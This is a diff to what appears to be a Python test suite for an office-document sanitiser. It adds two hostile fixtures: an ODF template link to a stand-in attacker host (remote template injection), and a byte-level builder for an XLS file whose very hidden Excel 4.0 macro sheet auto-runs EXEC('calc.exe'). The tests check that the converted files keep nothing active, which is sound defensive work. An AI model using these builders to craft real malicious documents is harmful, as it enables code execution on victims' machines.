@@ -19,6 +19,7 @@ import io
 import os
 import re
 import shutil
+import struct
 import subprocess
 import sys
 import tempfile
@@ -132,6 +133,16 @@ ODD_LINKS = [  # no scheme, or one written so that a naive reader misses it: eac
 ]
 
 
+# ODF 1.2 §4.3.2.8: the template a document was made from; LibreOffice writes it out as Word's
+# attached template, which Word fetches on opening (remote template injection)
+TEMPLATE_META = (
+    f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-meta {DECLS} '
+    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" office:version="1.2"><office:meta>'
+    f'<meta:template xlink:type="simple" xlink:actuate="onRequest" xlink:href="http://{EVIL}/t.dotm" '
+    'xlink:title="t"/></office:meta></office:document-meta>'
+)
+
+
 def odt_active() -> bytes:
     """ODF 1.2 §9–§19: every way a text document can act or reach out when opened or clicked:
     Basic with document events, form controls with events, a DDE connection, a macro field,
@@ -177,7 +188,7 @@ def odt_active() -> bytes:
         '<text:section text:name="linked"><text:section-source xlink:type="simple" '
         f'xlink:href="file://{EVIL}/share/x.odt" text:filter-name="writer8"/><text:p>section</text:p></text:section>'
     )
-    return odf_package("text", body, DOCUMENT_EVENTS)
+    return odf_package("text", body, DOCUMENT_EVENTS, {"meta.xml": TEMPLATE_META})
 
 
 def odt_embedded_ole(ole: bytes) -> bytes:
@@ -414,6 +425,71 @@ RTF_OBJECTS = rtf_doc(
     + rtf_object("Excel.Sheet.8", ole1(b"Excel.Sheet.8", b"\0" * 16), "\\objautlink\\objupdate")
 )
 RTF_TEMPLATE = rtf_doc("template", head=f"{{\\*\\template {UNC.replace(chr(92), chr(92) * 2)}\\\\t.dotm}}")
+
+
+# ============================================================================ MS-XLS: an Excel 4.0 macro sheet
+def biff_record(kind: int, payload: bytes = b"") -> bytes:
+    return struct.pack("<HH", kind, len(payload)) + payload
+
+
+def biff_name(text: str) -> bytes:
+    """ShortXLUnicodeString (MS-XLS 2.5.240): length, 8-bit flag, characters."""
+    return bytes([len(text), 0]) + text.encode("latin-1")
+
+
+def biff_bof(kind: int) -> bytes:  # BOF (2.4.21): BIFF8, the substream's kind
+    return biff_record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 0x06))
+
+
+def biff_formula(row: int, col: int, rgce: bytes) -> bytes:  # FORMULA (2.4.127), no cached value
+    return biff_record(0x0006, struct.pack("<HHH", row, col, 15) + b"\0" * 8 + struct.pack("<HIH", 2, 0, len(rgce)) + rgce)
+
+
+XLM_NUMBER = 4649.0  # the worksheet's one cell (a NUMBER record), which must come through
+
+
+def xlm_workbook_stream() -> bytes:
+    """The 2020–2022 Excel 4.0 lure: a very hidden macro sheet whose A1 runs EXEC("calc.exe"),
+    started by the built-in name Auto_Open (MS-XLS 2.4.28 BoundSheet8 dt=1, 2.4.150 Lbl)."""
+    exec_calc = b"\x17" + biff_name("calc.exe") + struct.pack("<BBH", 0x42, 1, 110)  # PtgStr, PtgFuncVar EXEC
+    halt = struct.pack("<BBH", 0x42, 0, 54)  # HALT()
+    macro = biff_bof(0x0040) + biff_formula(0, 0, exec_calc) + biff_formula(1, 0, halt) + biff_record(0x000A)
+    sheet = (biff_bof(0x0010) + biff_record(0x0200, struct.pack("<IIHHH", 0, 1, 0, 1, 0))  # DIMENSIONS: A1
+             + biff_record(0x0203, struct.pack("<HHHd", 0, 0, 15, XLM_NUMBER)) + biff_record(0x000A))
+    auto_open = biff_record(0x0018, struct.pack("<HBBHHHBBBB", 0x0020, 0, 1, 7, 0, 0, 0, 0, 0, 0) + b"\x00\x01"
+                            + b"\x3a" + struct.pack("<HHH", 0, 0, 0xC000))  # PtgRef3d Macro1!$A$1
+
+    def workbook_globals(sheet_at: int, macro_at: int) -> bytes:
+        return (biff_bof(0x0005) + biff_record(0x0042, struct.pack("<H", 1200))
+                + biff_record(0x0085, struct.pack("<IBB", sheet_at, 0, 0) + biff_name("Sheet1"))
+                + biff_record(0x0085, struct.pack("<IBB", macro_at, 2, 1) + biff_name("Macro1"))  # very hidden
+                + biff_record(0x01AE, struct.pack("<HH", 2, 0x0401)) + biff_record(0x0017, struct.pack("<HHHH", 1, 0, 1, 1))
+                + auto_open + biff_record(0x000A))
+
+    start = len(workbook_globals(0, 0))
+    return (workbook_globals(start, start + len(sheet)) + sheet + macro).ljust(4608, b"\0")
+
+
+def compound_file(stream_name: str, data: bytes) -> bytes:
+    """A version 3 compound file (MS-CFB) holding one stream of at least 4096 bytes, so that it
+    lives in ordinary sectors: header, one FAT sector, one directory sector, the data."""
+    assert len(data) % 512 == 0 and len(data) >= 4096
+    sectors = len(data) // 512
+    fat = [0xFFFFFFFD, 0xFFFFFFFE, *range(3, 2 + sectors), 0xFFFFFFFE]
+    fat += [0xFFFFFFFF] * (128 - len(fat))
+
+    def entry(name: str, kind: int, child: int, start: int, size: int, clsid: bytes = b"\0" * 16) -> bytes:
+        encoded = (name + "\0").encode("utf-16-le") if name else b""
+        return (encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded), kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, child)
+                + clsid + b"\0" * 20 + struct.pack("<IQ", start, size))
+
+    excel = bytes.fromhex("2008020000000000c000000000000046")  # CLSID_Excel
+    directory = (entry("Root Entry", 5, 1, 0xFFFFFFFE, 0, excel) + entry(stream_name, 2, 0xFFFFFFFF, 2, len(data))
+                 + entry("", 0, 0xFFFFFFFF, 0, 0) * 2)
+    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
+              + struct.pack("<9I", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", 0)
+              + struct.pack("<I", 0xFFFFFFFF) * 108)
+    return header + struct.pack("<128I", *fat) + directory + data
 
 
 # ============================================================================ spreadsheets as text
@@ -664,6 +740,7 @@ def build_legacy_inputs(work: Path) -> dict[str, bytes]:
         "xml2003.xls": XML_2003,
         "html_table.xls": HTML_XLS,
         "xls_is_mht.xls": MHT,
+        "xls_xlm_macrosheet.xls": compound_file("Workbook", xlm_workbook_stream()),
         "rtf_is_doc.rtf": docs["active.odt"],  # Word opens a .doc named .rtf, and the reverse
         "xls_is_doc.xls": docs["active.odt"],
         "doc_encrypted_flag.doc": flag_encrypted_doc(docs["table.docx"]),
@@ -977,7 +1054,7 @@ def mbcs_view(data: bytes) -> str:
 LEGACY_NAMES = (
     "rtf_fields.rtf rtf_objects.rtf rtf_template.rtf odt_active.odt odt_ole.odt ods_active.ods odp_active.odp "
     "doc_active.doc doc_fields.doc dot_active.dot xls_active.xls xls_vba.xls xlt_active.xlt pps_active.pps "
-    "xml2003.xls html_table.xls rtf_is_doc.rtf xls_is_doc.xls doc_encrypted_flag.doc velvet.xls secret.xls secret.doc xls_is_mht.xls"
+    "xml2003.xls html_table.xls rtf_is_doc.rtf xls_is_doc.xls doc_encrypted_flag.doc velvet.xls secret.xls secret.doc xls_is_mht.xls xls_xlm_macrosheet.xls"
 ).split()
 QUICK_NAMES = [*TEXT_ATTACKS, "doc_is_rtf.doc", "doc_is_html.doc", "velvet_xlsm.xls", "xls_is_xlsm.xls",
                "doc_is_mht.doc", "doc_is_wordxml.doc", "wordxml.xml"]
@@ -1070,7 +1147,7 @@ def test_converted_office_file_crosses_without_anything_active(name: str, legacy
     result = legacy_results[name]
     assert judge(result) == [], (name, result)
     if result["verdict"] == "released":  # the document's own text came through the rebuild
-        own_text = "Interpreter_Win" if name == "xls_vba.xls" else BENIGN  # xlwings' settings sheet
+        own_text = {"xls_vba.xls": "Interpreter_Win", "xls_xlm_macrosheet.xls": "4649"}.get(name, BENIGN)
         assert own_text in document_text(Path(str(result["output"]))), name
 
 
